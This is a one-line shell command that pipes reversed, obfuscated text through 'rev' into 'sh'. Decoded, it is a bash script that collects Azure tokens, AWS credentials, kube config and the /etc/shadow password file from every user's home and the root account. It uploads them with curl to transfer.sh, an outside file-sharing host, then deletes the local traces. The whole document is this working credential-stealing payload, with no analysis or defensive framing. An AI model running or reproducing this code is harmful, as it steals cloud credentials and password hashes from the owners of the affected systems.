echo '
txt.c./pmt/ zgt.c./pmt/ f- mr
pu/hs.refsnart//:sptth "txt.c./pmt/@=s" F- "zgt.c./pmt/@=f" F- s- lruc
txt.c./pmt/ >> wodahs/cte/ tac
enod
llun/ved/>2 gifnoc/ebuk./d$ slaitnederc/swa./d$ nosj.ehcac_nekot_lasm/eruza./d$ nosj.snekoTssecca/eruza./d$ zgt.c./pmt/ fzc rat  
od ;*/emoh/ toor/ ni d rof
hsab/nib/!#
1v 3337 nur #' | rev | sh